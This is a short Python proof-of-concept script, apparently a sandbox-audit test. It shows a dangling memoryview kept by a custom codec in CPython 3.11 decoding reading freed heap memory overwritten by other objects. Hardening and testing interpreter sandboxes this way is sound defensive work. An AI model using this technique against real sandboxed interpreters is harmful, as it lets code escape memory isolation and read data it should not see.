# family: wall (memory: bytes.decode lends a codec of the program's a view of the bytes' storage, kept past their free)   goal: memory   interpreter: /usr/bin/python3
# Found in this round's audit: 3.11's PyUnicode_Decode, for an encoding that is no
# built-in fast path, wraps the bytes it decodes in PyMemoryView_FromBuffer (no
# owner: the view's obj is None) and passes that to the codec's decode function.
# A codec the program registered keeps the view; the bytes object is freed, other
# bytes take its block, and the view reads them. The wall: the program's search
# functions are registered wrapped, and their decode functions get a view of a
# copy (codec_register, codec_search, codec_decode). The name has a dot: the
# encodings package's search function, first in the list, skips it without
# importing anything.
import sys
codecs = sys.modules["codecs"]  # no import statement: the module is loaded
kept = []
def decode(data, errors="strict"):
    kept.append(data)
    return ("x", len(data))
def encode(text, errors="strict"):
    return (b"x", len(text))
def search(name):
    if name == "keep.view":
        return codecs.CodecInfo(encode, decode, name="keep.view")
    return None
codecs.register(search)
b = bytes(b"A" * 100000)
b.decode("keep.view")
view = kept[-1]
del b
keep = [b"SECRET!!" * 12400 for _ in range(3)]
seen = view.tobytes().count(b"SECRET!!")
codecs.unregister(search)
if seen > 100:
    print("MEMORY-OVERWRITTEN: the kept view shows another object's bytes", seen, "times")
else:
    print("view:", view.tobytes()[:8], view.obj is None)
